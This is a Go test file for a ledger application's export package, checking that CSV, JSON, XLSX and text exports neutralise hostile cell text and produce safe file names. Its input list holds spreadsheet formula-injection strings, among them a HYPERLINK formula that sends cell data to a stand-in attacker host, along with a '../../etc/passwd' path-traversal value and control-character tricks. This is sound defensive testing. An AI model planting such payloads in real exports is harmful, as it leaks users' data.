package export

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/khata-ledger/khata/internal/sheet"
	"github.com/khata-ledger/khata/ledger"
)

// nastyTexts are what users might have written, or made others write.
var nastyTexts = []string{
	"",
	`=cmd()`,
	`=HYPERLINK("http://evil.example/?"&A1,"ok")`,
	"-1+1",
	"+8801711000000",
	"@SUM(A1)",
	"  =cmd()",
	"\u00a0\u200b=cmd()",
	"＝cmd()",
	"－１",
	"\t=cmd()",
	"\r=cmd()",
	"\n=cmd()",
	"\x00=cmd()",
	"tea;=cmd()",
	"tea\t@x",
	`"; drop`,
	"a,b",
	"two\nlines",
	"two\r\nlines",
	"]",
	"<b>&amp;</b>",
	"date:2025-01-01",
	"2026-01-31",
	"00123",
	"1582917533873852417",
	"1e5",
	"TRUE",
	"_x0041_",
	"_x005F_x0041_",
	" leading and trailing ",
	"'quoted",
	"ক্ষুদ্র ব্যবসায়ী র\u200d্যাব কি",
	"東京 ｶﾅ 한국",
	"👩🏽‍🚀 👨‍👩‍👧‍👦 🏴󠁧󠁢󠁳󠁣󠁴󠁿 🇧🇩",
	"e\u0301 combining",
	"\x1b[31mred\x1b]0;title\x07",
	"\u009b31m",
	"abc\u202e00.0001",
	"\u2066isolate",
	"a\u2028b",
	"\x7f",
	"\ufeffbom",
	"\xff\xfe no UTF-8",
	"\ufffe\uffff",
	strings.Repeat("ক", 40000),
	strings.Repeat("👩🏽‍🚀", 8000),
}

var nastyColumns = []sheet.Column{
	{ID: "account", Title: "Account", Kind: sheet.Text},
	{ID: "note", Title: "Note", Kind: sheet.Text},
	{ID: "entries", Title: "Entries", Kind: sheet.Count},
	{ID: "at", Title: "At", Kind: sheet.Time},
	{ID: "day", Title: "Day", Kind: sheet.Date},
	{ID: "balance", Title: "Balance", Kind: sheet.Amount},
}

// nastySheet has a row for each of the nasty texts, and them in its facts and checks too.
func nastySheet() *sheet.Sheet {
	s := &sheet.Sheet{Head: sheet.Head{Report: "general-ledger", Title: "General ledger", Columns: nastyColumns}}
	amounts := []string{"-1500.00", "0.00", "1234567.89", "", "123456789012345678901234567890.10", "-0.00", "0.000000000000000001", "7500"}
	for i, text := range nastyTexts {
		s.Head.Facts = append(s.Head.Facts, sheet.Fact{ID: fmt.Sprint("f", i), Title: "Fact", Value: text})
		s.Checks = append(s.Checks, sheet.Check{Name: text, OK: i%2 == 0, Detail: text})
		s.Rows = append(s.Rows, sheet.Row{Kind: sheet.Item, Depth: i % 4, Cells: []string{
			text, "x" + text, fmt.Sprint(i), "2026-01-31T18:00:00.000001Z", "2026-01-31", amounts[i%len(amounts)],
		}})
	}
	s.Rows = append(s.Rows, sheet.Row{Kind: sheet.Total, Cells: []string{"", "", "46", "", "", "-1.50"}})
	return s
}

func writeSheet(t testing.TB, f Format, s *sheet.Sheet) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := s.WriteTo(New(f, &b)); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func TestParseFormat(t *testing.T) {
	for _, f := range Formats() {
		if got, err := ParseFormat(string(f)); err != nil || got != f {
			t.Errorf("%s: %s, %v", f, got, err)
		}
	}
	for _, text := range []string{"", "CSV", "pdf", "table\n"} {
		_, err := ParseFormat(text)
		if ledger.CodeOf(err) != ledger.CodeInvalidArgument || !strings.Contains(err.Error(), "table, csv, json or xlsx") {
			t.Errorf("%q: %v", text, err)
		}
	}
	if err := New("pdf", io.Discard).Begin(sheet.Head{}); err == nil {
		t.Error("pdf is written")
	}
}

func TestFormatNames(t *testing.T) {
	for f, want := range map[Format][2]string{
		Table: {".txt", "text/plain; charset=utf-8"},
		CSV:   {".csv", "text/csv; charset=utf-8; header=present"},
		JSON:  {".json", "application/json"},
		XLSX:  {".xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"},
	} {
		if f.Extension() != want[0] || f.ContentType() != want[1] {
			t.Errorf("%s: %s, %s", f, f.Extension(), f.ContentType())
		}
	}
}

func TestFileName(t *testing.T) {
	fact := func(id, value string) sheet.Fact { return sheet.Fact{ID: id, Value: value} }
	for want, head := range map[string]sheet.Head{
		"trial-balance_main_2026-01-01_2026-02-01.csv": {Report: "trial-balance",
			Facts: []sheet.Fact{fact("ledger", "main"), fact("from", "2026-01-01"), fact("to", "2026-02-01")}},
		"growth_my_ledger-2_2026-01-01-to-2026-02-01.csv": {Report: "growth",
			Facts: []sheet.Fact{fact("ledger", "my_ledger-2"), fact("period", "2026-01-01 to 2026-02-01"), fact("to", "2026-02-01")}},
		"general-ledger_main_wallet-shimul.csv": {Report: "general-ledger",
			Facts: []sheet.Fact{fact("ledger", "main"), fact("account", "wallet:SHIMUL")}},
		"etc-passwd_x-y.csv": {Report: "../../etc/passwd", Facts: []sheet.Fact{fact("ledger", "x\r\n\";y"), fact("period", "হিসাব")}},
		"report.csv":         {Report: "...", Facts: []sheet.Fact{fact("ledger", "রশিদ")}},
	} {
		if got := FileName(head, CSV); got != want {
			t.Errorf("%s, want %s", got, want)
		}
	}
	plain := regexp.MustCompile(`^[a-z0-9][a-z0-9._-]{0,254}$`)
	for _, text := range nastyTexts {
		head := sheet.Head{Report: text, Facts: []sheet.Fact{fact("ledger", text), fact("account", text), fact("from", text), fact("to", text)}}
		if got := FileName(head, XLSX); !plain.MatchString(got) {
			t.Errorf("%.40q makes %q", text, got)
		}
	}
}

// TestFormatsRefuseWrongRows: an amount must not get into a column that it is not of.
func TestFormatsRefuseWrongRows(t *testing.T) {
	for _, f := range Formats() {
		for _, cells := range [][]string{nil, {"a"}, make([]string, len(nastyColumns)+1)} {
			w := New(f, io.Discard)
			if err := w.Begin(sheet.Head{Report: "r", Columns: nastyColumns}); err != nil {
				t.Fatal(err)
			}
			if err := w.Row(sheet.Row{Kind: sheet.Item, Cells: cells}); err == nil {
				t.Errorf("%s takes %d cells for %d columns", f, len(cells), len(nastyColumns))
			}
		}
	}
}

// breaking fails after some bytes, like a browser that has gone.
type breaking struct{ left int }

var errGone = errors.New("gone")

func (b *breaking) Write(p []byte) (int, error) {
	if b.left -= len(p); b.left < 0 {
		return 0, errGone
	}
	return len(p), nil
}

// TestFormatsReportErrors breaks the output at many places: none may look like a whole file.
func TestFormatsReportErrors(t *testing.T) {
	for _, f := range Formats() {
		s := nastySheet()
		whole := len(writeSheet(t, f, s))
		for left := 0; left < whole; left += 1 + whole/7 {
			if err := s.WriteTo(New(f, &breaking{left})); !errors.Is(err, errGone) {
				t.Errorf("%s after %d of %d bytes: %v", f, left, whole, err)
			}
		}
	}
}

func TestFormatsAreDeterministic(t *testing.T) {
	for _, f := range Formats() {
		if s := nastySheet(); !bytes.Equal(writeSheet(t, f, s), writeSheet(t, f, s)) {
			t.Errorf("%s: the same sheet has other bytes", f)
		}
	}
}

// TestFormatsStream writes many rows, and looks at how much memory stays in use: what is kept must not grow with the rows. In its long form it
// writes a million rows of each format; in its short form those of XLSX, which are slow, are fewer and longer.
func TestFormatsStream(t *testing.T) {
	t.Setenv("TMPDIR", t.TempDir())
	for _, c := range []struct {
		format     Format
		rows, note int
		limit      uint64
	}{{Table, 200_000, 10, 4 << 20}, {CSV, 200_000, 10, 4 << 20}, {JSON, 50_000, 10, 4 << 20}, {XLSX, 8000, 5000, 16 << 20}} {
		if os.Getenv("KHATA_TEST_LONG") != "" {
			c.rows, c.note, c.limit = 1_000_000, 10, max(c.limit, 32<<20)
		}
		began := time.Now()
		var before, after uint64
		writes := 0
		w := New(c.format, writeFunc(func(p []byte) (int, error) {
			if writes++; writes%10_000 == 1 { // also while XLSX is at its end
				after = max(after, heapInUse())
			}
			return len(p), nil
		}))
		if err := w.Begin(sheet.Head{Report: "general-ledger", Title: "General ledger", Columns: nastyColumns}); err != nil {
			t.Fatal(err)
		}
		note := strings.Repeat("x", c.note)
		for i := range c.rows {
			if i == 5000 {
				before = heapInUse()
			}
			if err := w.Row(sheet.Row{Kind: sheet.Item, Cells: []string{
				fmt.Sprintf("wallet:%08d", i), note, "12", "2026-01-31T18:00:00.000001Z", "2026-01-31", fmt.Sprintf("%d.25", i),
			}}); err != nil {
				t.Fatal(err)
			}
			if i%(c.rows/10) == 0 {
				after = max(after, heapInUse())
			}
		}
		if err := w.End(nil); err != nil {
			t.Fatal(err)
		}
		t.Logf("%s: %d KiB in use after 5,000 rows, and at most %d KiB up to %d, in %s", c.format, before>>10, after>>10, c.rows, time.Since(began))
		if after > before+c.limit {
			t.Errorf("%s: more than %d KiB more", c.format, c.limit>>10)
		}
		runtime.KeepAlive(w)
	}
}

// writeFunc is a writer that is a function.
type writeFunc func(p []byte) (int, error)

func (f writeFunc) Write(p []byte) (int, error) { return f(p) }

func heapInUse() uint64 {
	runtime.GC()
	var m runtime.MemStats
	runtime.ReadMemStats(&m)
	return m.HeapAlloc
}

// temporaryFiles lists what is in the directory for temporary files.
func temporaryFiles(t *testing.T) []string {
	t.Helper()
	files, err := filepath.Glob(filepath.Join(os.TempDir(), "*"))
	if err != nil {
		t.Fatal(err)
	}
	return files
}
